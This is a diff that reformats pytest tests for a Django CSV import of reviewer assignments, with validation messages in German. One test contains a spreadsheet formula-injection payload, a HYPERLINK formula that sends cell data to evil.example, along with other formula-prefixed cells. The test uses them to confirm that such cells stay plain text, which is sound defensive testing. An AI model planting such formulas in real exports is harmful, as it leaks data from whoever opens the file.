@@ -63,7 +63,10 @@ def test_good_file_previews_then_applies(cycle, setup, django_capture_on_commit_
     )
     preview = parse_assignment_csv(cycle=cycle, csv_text=data)
     assert [(row.line, row.strategy, row.expert) for row in preview.rows] == [
-        (2, setup["lausitz"], setup["anna"]), (3, setup["diana"], setup["ben"]), (4, setup["lausitz"], setup["carla"])]
+        (2, setup["lausitz"], setup["anna"]),
+        (3, setup["diana"], setup["ben"]),
+        (4, setup["lausitz"], setup["carla"]),
+    ]
     assert preview.rows[0].flags == () and preview.rows[0].override_reason == ""
     assert preview.rows[2].flags == ("Organisation „Hochschule Zittau/Görlitz“ ist Bündnispartner.",)
     assert Assignment.objects.count() == 0  # preview only
@@ -97,29 +100,38 @@ def cap_one(setup):
 
 BAD_LINES = [
     ("unknown alliance", "gibt-es-nicht,ben@uni-b.example,", None, "Unbekanntes Bündnis „gibt-es-nicht“."),
-    ("not submitted", "entwurf,ben@uni-b.example,", None,
-     "Die Strategie von Entwurf ist in dieser Runde nicht eingereicht."),
+    (
+        "not submitted",
+        "entwurf,ben@uni-b.example,",
+        None,
+        "Die Strategie von Entwurf ist in dieser Runde nicht eingereicht.",
+    ),
     ("unknown e-mail", "diana,niemand@example.org,", None, "„niemand@example.org“ ist nicht als Gutachter/in"),
     ("not an expert", "diana,pt@ptj.example,", None, "„pt@ptj.example“ ist nicht als Gutachter/in registriert."),
     ("duplicate pair", "gesunde-lausitz,ANNA@uni-a.example,", None, "Dieselbe Zuweisung steht bereits in Zeile 2."),
-    ("already assigned", "diana,ben@uni-b.example,", lambda s: assign(s, "diana", "ben"),
-     "ist der Strategie von DIANA bereits zugewiesen."),
+    (
+        "already assigned",
+        "diana,ben@uni-b.example,",
+        lambda s: assign(s, "diana", "ben"),
+        "ist der Strategie von DIANA bereits zugewiesen.",
+    ),
     ("flag without reason", "gesunde-lausitz,carla@uni-c.example,  ", None, "Hinweis auf Befangenheit (Organisation"),
     ("over the load cap", "diana,anna@uni-a.example,", cap_one, "mehr als die Höchstzahl von 1 Strategien."),
-    ("too many fields", "diana,ben@uni-b.example,,zu viel", None,
-     "Erwartet werden 3 Felder, die Zeile hat 4."),
+    ("too many fields", "diana,ben@uni-b.example,,zu viel", None, "Erwartet werden 3 Felder, die Zeile hat 4."),
     ("too few fields", "diana", None, "Erwartet werden 3 Felder, die Zeile hat 1."),
 ]
 
 
-@pytest.mark.parametrize(("bad_line", "prepare", "message"), [case[1:] for case in BAD_LINES],
-                         ids=[case[0] for case in BAD_LINES])
+@pytest.mark.parametrize(
+    ("bad_line", "prepare", "message"), [case[1:] for case in BAD_LINES], ids=[case[0] for case in BAD_LINES]
+)
 def test_each_bad_line_is_named_and_nothing_is_applied(cycle, setup, bad_line, prepare, message):
     if prepare:
         prepare(setup)
     before = Assignment.objects.count()
-    messages = errors_of(cycle, csv_bytes(HEADER, "gesunde-lausitz,anna@uni-a.example,", bad_line,
-                                          "gesunde-lausitz,ben@uni-b.example,"))
+    messages = errors_of(
+        cycle, csv_bytes(HEADER, "gesunde-lausitz,anna@uni-a.example,", bad_line, "gesunde-lausitz,ben@uni-b.example,")
+    )
     assert len(messages) == 1
     assert messages[0].startswith("Zeile 3: ")
     assert message in messages[0]
@@ -128,29 +140,42 @@ def test_each_bad_line_is_named_and_nothing_is_applied(cycle, setup, bad_line, p
 
 def test_a_conflicted_pair_is_refused(cycle, setup):
     assignment = services.assign_expert(strategy=setup["diana"], expert=setup["ben"], user=setup["office"])
-    services.declare_conflict(assignment=assignment, user=setup["ben"], has_conflict=True, conflict_type="personal",
-                              explanation="Verwandtschaft")
+    services.declare_conflict(
+        assignment=assignment,
+        user=setup["ben"],
+        has_conflict=True,
+        conflict_type="personal",
+        explanation="Verwandtschaft",
+    )
     assert errors_of(cycle, csv_bytes(HEADER, "diana,ben@uni-b.example,")) == [
-        f"Zeile 2: {setup['ben']} hat sich für DIANA für befangen erklärt."]
+        f"Zeile 2: {setup['ben']} hat sich für DIANA für befangen erklärt."
+    ]
 
 
 def test_every_bad_line_gets_its_own_message(cycle, setup):
-    messages = errors_of(cycle, csv_bytes(
-        HEADER,
-        "gesunde-lausitz,anna@uni-a.example,",
-        '"gesunde-lausitz","carla@uni-c.example","',  # a quoted reason running over two lines
-        'ok"',
-        "nirgendwo,anna@uni-a.example,",
-        "diana,ben@uni-b.example,",
-        "diana,ben@uni-b.example,",
-    ))
+    messages = errors_of(
+        cycle,
+        csv_bytes(
+            HEADER,
+            "gesunde-lausitz,anna@uni-a.example,",
+            '"gesunde-lausitz","carla@uni-c.example","',  # a quoted reason running over two lines
+            'ok"',
+            "nirgendwo,anna@uni-a.example,",
+            "diana,ben@uni-b.example,",
+            "diana,ben@uni-b.example,",
+        ),
+    )
     assert [message.split(":")[0] for message in messages] == ["Zeile 5", "Zeile 7"]
 
 
 def test_a_cap_counts_the_files_own_rows(cycle, setup):
     cap_one(setup)
-    messages = errors_of(cycle, csv_bytes(HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,ben@uni-b.example,",
-                                          "diana,anna@uni-a.example,"))
+    messages = errors_of(
+        cycle,
+        csv_bytes(
+            HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,ben@uni-b.example,", "diana,anna@uni-a.example,"
+        ),
+    )
     assert messages == [f"Zeile 4: {setup['anna']} hätte damit mehr als die Höchstzahl von 1 Strategien."]
 
 
@@ -159,8 +184,9 @@ def test_wrong_columns_are_named(cycle, setup, header):
     lines = [header, "gesunde-lausitz,anna@uni-a.example"] if header else ["", "  "]
     messages = errors_of(cycle, csv_bytes(*lines))
     if header:
-        assert messages == ["Zeile 1: Erwartet werden die Spalten alliance, expert, override_reason "
-                            "(override_reason ist optional)."]
+        assert messages == [
+            "Zeile 1: Erwartet werden die Spalten alliance, expert, override_reason (override_reason ist optional)."
+        ]
     else:
         assert messages == ["Die Datei ist leer."]
 
@@ -172,13 +198,16 @@ def test_header_only_is_refused(cycle, setup):
 def test_formula_like_cells_are_plain_text(cycle, setup):
     hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'
     quoted = '"' + hyperlink.replace('"', '""') + '"'
-    messages = errors_of(cycle, csv_bytes(
-        HEADER,
-        f"diana,{quoted},",
-        "+diana,ben@uni-b.example,",
-        "@SUM(1+1),ben@uni-b.example,",
-        "-diana,ben@uni-b.example,",
-    ))
+    messages = errors_of(
+        cycle,
+        csv_bytes(
+            HEADER,
+            f"diana,{quoted},",
+            "+diana,ben@uni-b.example,",
+            "@SUM(1+1),ben@uni-b.example,",
+            "-diana,ben@uni-b.example,",
+        ),
+    )
     assert messages == [
         f"Zeile 2: „{hyperlink}“ ist nicht als Gutachter/in registriert.",
         "Zeile 3: Unbekanntes Bündnis „+diana“.",
@@ -213,12 +242,17 @@ def test_too_many_rows_are_refused(cycle, setup):
 def test_other_encodings_are_refused(cycle, setup, encoding):
     data = csv_bytes(HEADER, "gesunde-lausitz,jörg@uni-a.example,Begründung", encoding=encoding)
     assert errors_of(cycle, data) == [
-        "Die Datei ist nicht UTF-8-kodiert. Bitte speichern Sie sie als „CSV UTF-8“ und laden Sie sie erneut hoch."]
+        "Die Datei ist nicht UTF-8-kodiert. Bitte speichern Sie sie als „CSV UTF-8“ und laden Sie sie erneut hoch."
+    ]
 
 
 def test_apply_is_all_or_nothing(cycle, setup):
-    preview = parse_assignment_csv(cycle=cycle, csv_text=csv_bytes(
-        HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,anna@uni-a.example,", "diana,ben@uni-b.example,"))
+    preview = parse_assignment_csv(
+        cycle=cycle,
+        csv_text=csv_bytes(
+            HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,anna@uni-a.example,", "diana,ben@uni-b.example,"
+        ),
+    )
     # Someone assigns the last pair by hand between preview and apply.
     assign(setup, "diana", "ben")
     with pytest.raises(services.AssignmentRefused, match="bereits zugewiesen"):
@@ -227,8 +261,9 @@ def test_apply_is_all_or_nothing(cycle, setup):
 
 
 def test_apply_rereads_the_experts(cycle, setup):
-    preview = parse_assignment_csv(cycle=cycle, csv_text=csv_bytes(
-        HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,ben@uni-b.example,"))
+    preview = parse_assignment_csv(
+        cycle=cycle, csv_text=csv_bytes(HEADER, "gesunde-lausitz,anna@uni-a.example,", "diana,ben@uni-b.example,")
+    )
     User.objects.filter(pk=setup["ben"].pk).update(role=Role.ALLIANCE_MANAGER)
     with pytest.raises(services.AssignmentRefused, match="nicht als Gutachter/in registriert"):
         apply_assignment_import(preview=preview, user=setup["office"])
